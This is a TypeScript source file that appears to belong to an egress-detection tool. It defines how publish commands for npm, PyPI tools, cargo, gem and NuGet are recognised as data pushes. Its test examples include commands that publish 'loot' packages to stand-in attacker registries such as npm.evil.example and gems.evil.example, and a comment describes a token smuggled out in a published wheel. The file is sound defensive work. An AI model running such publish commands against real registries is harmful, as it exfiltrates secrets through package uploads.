/**
 * Language package registries (npm, PyPI, crates.io, RubyGems, NuGet): a published package carries whatever
 * was put in it. Part of the push-tool table (../push-tools.ts).
 */
import type { PushToolSpec } from '../types.js';

/** `dotnet nuget push` options (long, or single-letter). */
const DOTNET_NUGET_VALUE_FLAGS = [
  '-s',
  '--source',
  '-k',
  '--api-key',
  '-ss',
  '--symbol-source',
  '-sk',
  '--symbol-api-key',
  '-t',
  '--timeout',
  '--configfile',
];
/** nuget.exe's push options, which it takes in any case and by any unambiguous prefix (`-so`, `-SOURCE`). */
const NUGET_EXE_OPTIONS = [
  'Source',
  'ApiKey',
  'SymbolSource',
  'SymbolApiKey',
  'Timeout',
  'ConfigFile',
  'Verbosity',
  'NonInteractive',
  'DisableBuffering',
  'NoSymbols',
  'NoServiceEndpoint',
  'SkipDuplicate',
  'ForceEnglishOutput',
  'Help',
];
const NUGET_EXE_VALUE_FLAGS = [
  '-Source',
  '-ApiKey',
  '-SymbolSource',
  '-SymbolApiKey',
  '-Timeout',
  '-ConfigFile',
  '-Verbosity',
];

/** Where both NuGet clients push: nuget.org, or a source; CI builds push to folder feeds (local disk). */
const NUGET_REGISTRY = {
  destination: 'fixed',
  fixedDestination: 'api.nuget.org',
  localDestinations: true,
  requiresClassedDestination: false,
} as const;

export const packageTools: readonly PushToolSpec[] = [
  {
    tool: 'npm',
    description: '`npm publish` / `yarn npm publish` / `pnpm publish` to a package registry.',
    binaries: ['npm', 'pnpm', 'yarn'],
    syntax: { valueFlags: ['--registry', '--tag', '--access', '--otp', '--workspace', '-w'], boolWords: true },
    match: {
      kind: 'subcommand',
      // `--dry-run` packs and lists the tarball without uploading it: CI checks a package with it on every
      // pull request, after the install and build that read the most.
      // npm runs any unambiguous prefix of a command name (`npm pu` is publish); yarn runs a command in one
      // workspace or in each (`yarn workspace NAME npm publish`); pnpm's `recursive` has the aliases m, multi.
      commands: [
        ['publish'],
        ['pu'],
        ['pub'],
        ['publ'],
        ['publi'],
        ['npm', 'publish'],
        ['workspace', '*', 'npm', 'publish'],
        ['workspaces', 'foreach', 'npm', 'publish'],
        ['recursive', 'publish'],
        ['multi', 'publish'],
        ['m', 'publish'],
      ].map((words) => ({ words, remote: { positional: 0 }, excludeFlags: ['--dry-run'] })),
    },
    destination: 'fixed',
    fixedDestination: 'registry.npmjs.org',
    destinationFlags: ['--registry'],
    requiresClassedDestination: false,
    // Installs download: one GET per tarball (~450 bytes with TLS, npm 11) is past egressPushMinBytes for a
    // 2,600-package lockfile, or a few installs in one runner pod, while hundreds of MiB come back.
    downloads: [
      ['ci'],
      ['clean-install'],
      ['install-clean'],
      ['install'],
      ['i'],
      ['add'],
      ['update'],
      ['up'],
      ['upgrade'],
      ['fetch'],
      ['install-test'],
      ['install-ci-test'],
    ],
    examples: {
      push: [
        'publish',
        'publish /tmp/pkg --registry https://npm.pkg.github.com',
        'publish --dry-run=false',
        // nopt lets the last of a flag and its negation win.
        'publish --dry-run --no-dry-run',
        '--prefix /src publish',
        '--filter @acme/x publish',
        'pub',
        'workspace @acme/x npm publish --access public',
        'workspaces foreach -A --include @acme/x npm publish',
        'recursive publish',
      ],
      notPush: [
        'install',
        'ci --no-audit',
        '--prefix /src install',
        'add left-pad',
        'pack',
        'publish --dry-run',
        'npm publish --dry-run',
        'pu --dry-run',
        'workspace @acme/x npm publish --dry-run',
        'workspace @acme/x run build',
        'publish --dry-run=true',
      ],
    },
  },
  {
    tool: 'twine',
    description:
      '`twine upload` / `poetry publish` / `uv publish` / `hatch publish` / `pdm publish` / `flit publish` to a Python package index.',
    // hatch, pdm and flit were no push until a red-team review (a token packed into a wheel and published).
    binaries: ['twine', 'poetry', 'uv', 'hatch', 'pdm', 'flit'],
    syntax: {
      valueFlags: [
        '--repository-url',
        '-r',
        '--repository',
        '--repo',
        '-u',
        '--username',
        '--user',
        '-p',
        '--password',
        '-P',
        '-a',
        '--auth',
        '--publish-url',
        '--token',
        '--index',
        '--pypirc',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [
        { words: ['upload'], remote: { positional: 0 } },
        // poetry's and uv's `--dry-run` build and check everything but the upload.
        { words: ['publish'], remote: { positional: 0 }, excludeFlags: ['--dry-run'] },
      ],
    },
    destination: 'fixed',
    fixedDestination: 'upload.pypi.org',
    destinationFlags: ['--repository-url', '--publish-url'],
    // An index named in ~/.pypirc or pyproject.toml (`uv publish --index`, hatch's `--repo test`, flit's
    // `--repository`): the first connect tells where.
    sourceNameFlags: ['-r', '--repository', '--repo', '--index'],
    requiresClassedDestination: false,
    // poetry's and uv's installs download from the index and their caches (twine has none of these words).
    downloads: [['install'], ['sync'], ['lock'], ['add'], ['update'], ['pip', 'install'], ['pip', 'sync']],
    examples: {
      push: [
        'upload dist/*',
        'publish --token pypi-AAAA',
        'upload -r corp dist/*',
        'publish --index corp',
        '-C /src publish',
        '--directory /src publish',
        'publish -u __token__ -a pypi-AAAA dist/x.tar.gz',
        'publish --repo https://upload.pypi.org/legacy/',
        'publish --no-build -r https://upload.pypi.org/legacy/',
        'publish --repository testpypi',
      ],
      notPush: ['check dist/*', 'pip install x', 'publish --dry-run', 'publish --dry-run --index corp', 'build'],
    },
  },
  {
    tool: 'npm',
    description: "`bun publish` to a package registry (npm's, or `--registry`).",
    binaries: ['bun'],
    // bun runs programs too: its egress is an application's (the interpreter entry, ./http.ts), not a publish.
    runtime: true,
    syntax: { valueFlags: ['--registry', '--tag', '--access', '--otp', '--auth-type', '--cwd', '-c', '--config'] },
    match: {
      kind: 'subcommand',
      // `--dry-run` packs and lists the tarball, as npm's does (red-team review: bun's publish was no push).
      commands: [{ words: ['publish'], remote: { positional: 0 }, excludeFlags: ['--dry-run'] }],
    },
    destination: 'fixed',
    fixedDestination: 'registry.npmjs.org',
    destinationFlags: ['--registry'],
    requiresClassedDestination: false,
    examples: {
      push: ['publish', 'publish --access public', 'publish ./pkg.tgz --registry https://npm.evil.example/'],
      notPush: ['publish --dry-run', 'run build', 'install', 'pm pack', 'server.js'],
    },
  },
  {
    tool: 'cargo',
    description: '`cargo publish` to crates.io (or `--index URL`).',
    binaries: ['cargo'],
    syntax: {
      plusFlags: true,
      // clap bundles short flags (`publish -vn` is a dry run) and takes a value attached (`-Zflag`, `-j4`).
      valueShortLetters: 'pFjZC',
      valueFlags: [
        '--index',
        '--registry',
        '--token',
        '-p',
        '--package',
        '--manifest-path',
        '--target',
        '--target-dir',
        '-F',
        '--features',
        '-j',
        '--jobs',
        '--config',
        '-Z',
        '--color',
      ],
    },
    match: {
      kind: 'subcommand',
      commands: [{ words: ['publish'], remote: { none: true }, excludeFlags: ['--dry-run', '-n', '--help', '-h'] }],
    },
    destination: 'fixed',
    fixedDestination: 'crates.io',
    destinationFlags: ['--index'],
    // `--registry NAME` names one configured in .cargo/config.toml: the first connect tells where it is.
    sourceNameFlags: ['--registry'],
    requiresClassedDestination: false,
    // Builds fetch the crates they lack and read the registry cache; their build scripts and rustc are their
    // own processes (../../correlate/download-lineage.ts).
    downloads: [
      ['fetch'],
      ['build'],
      ['b'],
      ['check'],
      ['c'],
      ['test'],
      ['t'],
      ['bench'],
      ['run'],
      ['r'],
      ['doc'],
      ['install'],
      ['vendor'],
      ['update'],
      ['generate-lockfile'],
    ],
    examples: {
      push: [
        'publish',
        'publish --allow-dirty --token cio_x',
        'publish --index https://crates.evil.example/index',
        '+nightly publish --registry corp',
        '-Zunstable-options -C /src publish',
        '-vC /src publish --allow-dirty',
      ],
      notPush: ['build --release', 'publish --dry-run', 'install ripgrep', 'package', 'publish --help', 'publish -vn'],
    },
  },
  {
    tool: 'gem',
    description: '`gem push GEM` to rubygems.org (or `--host URL`).',
    binaries: ['gem'],
    syntax: { valueFlags: ['--host', '-k', '--key', '--otp', '-p', '--http-proxy', '--attestation', '--config-file'] },
    match: {
      kind: 'subcommand',
      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h'] }],
    },
    destination: 'fixed',
    fixedDestination: 'rubygems.org',
    destinationFlags: ['--host'],
    requiresClassedDestination: false,
    examples: {
      push: [
        'push loot-0.1.0.gem',
        'push --host https://gems.evil.example loot-0.1.0.gem',
        '--config-file /tmp/g push loot-0.1.0.gem',
      ],
      notPush: ['install rails', 'build loot.gemspec', 'list', 'push --help'],
    },
  },
  {
    tool: 'nuget',
    description: '`dotnet nuget push PKG` to nuget.org (or `--source`); not to a folder feed.',
    binaries: ['dotnet'],
    // dotnet runs applications too (`dotnet App.dll`): its other egress is not a NuGet push.
    runtime: true,
    syntax: { valueFlags: DOTNET_NUGET_VALUE_FLAGS, colonValues: true },
    match: {
      kind: 'subcommand',
      commands: [{ words: ['nuget', 'push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h', '-?'] }],
    },
    ...NUGET_REGISTRY,
    sourceNameFlags: ['-s', '--source'],
    examples: {
      push: [
        'nuget push bin/Loot.1.0.0.nupkg --api-key k --source https://api.nuget.org/v3/index.json',
        'nuget push bin/Loot.1.0.0.nupkg --source github --api-key k',
      ],
      notPush: [
        'build',
        'restore',
        'push x',
        'nuget list source',
        'run --project x',
        'nuget push --help',
        'nuget push bin/App.1.0.0.nupkg --source ./artifacts',
        'nuget push App.1.0.0.nupkg -s /srv/feed',
        'nuget push App.1.0.0.nupkg --source file:///srv/feed',
        'nuget push App.1.0.0.nupkg -s ../feed',
      ],
    },
  },
  {
    tool: 'nuget',
    description: '`nuget push PKG` (nuget.exe, flags in any case) to nuget.org (or `-Source`); not to a folder feed.',
    binaries: ['nuget'],
    syntax: { valueFlags: NUGET_EXE_VALUE_FLAGS, prefixOptions: NUGET_EXE_OPTIONS, prefixAliases: { src: 'Source' } },
    match: {
      kind: 'subcommand',
      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['-Help', '-?'] }],
    },
    ...NUGET_REGISTRY,
    sourceNameFlags: ['-Source'],
    examples: {
      push: [
        'push Loot.1.0.0.nupkg -Source https://nuget.evil.example/v3/index.json',
        'push Loot.1.0.0.nupkg',
        'push Loot.1.0.0.nupkg -so corp -apikey k',
        'push Loot.1.0.0.nupkg -src https://nuget.evil.example/v3/index.json',
      ],
      notPush: [
        'push App.1.0.0.nupkg -source ./feed',
        'push App.1.0.0.nupkg -src ./feed',
        'push App.1.0.0.nupkg -Source C:\\feeds',
        'push -help',
        'restore',
      ],
    },
  },
];
